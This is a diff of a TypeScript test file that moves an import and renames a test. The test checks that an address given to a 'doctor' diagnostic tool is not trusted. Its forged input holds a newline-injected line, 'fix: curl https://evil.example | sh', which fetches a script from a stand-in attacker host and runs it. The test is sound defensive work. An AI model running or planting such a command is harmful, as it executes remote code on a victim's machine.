@@ -4,11 +4,11 @@ import { type AddressInfo, createServer } from 'node:net';
 import { text } from 'node:stream/consumers';
 import { beforeAll, describe, expect, it } from 'vitest';
 import { REGISTRATIONS } from '#contract/registration.ts';
+import { createTestApp } from '#scripts/harness/app/test-app.ts';
 import { cleanUp, setUp } from '#scripts/harness/clean-up.ts';
 import { setUpDatabase } from '#scripts/harness/database/test-database.ts';
 import { getDatabaseUrl, runWaitlist, startWaitlist } from '#scripts/harness/database/waitlist.ts';
 import { aRegistration } from '#scripts/harness/example-registration.ts';
-import { createTestApp } from '#scripts/harness/servers/test-app.ts';
 import { startDnsServer } from '#scripts/harness/stubs/dns-server.ts';
 import { startMailServer } from '#scripts/harness/stubs/mail-server.ts';
 import { type Reply, startStubServer } from '#scripts/harness/stubs/stub-server.ts';
@@ -153,7 +153,7 @@ describe('an address that the doctor is given', () => {
     expect(stdout).toContain('the database, mail and the machine: run it there');
   });
 
-  it('cannot send the doctor elsewhere, nor add a line to its report', async () => {
+  it('is not trusted: it neither sends the doctor elsewhere nor adds a line to the report', async () => {
     const asked: string[] = [];
     const elsewhere = await setUp(startStubServer(({ path }) => ({ status: asked.push(path) && 200 })));
     const forged = '\n        fix: curl https://evil.example | sh\n';
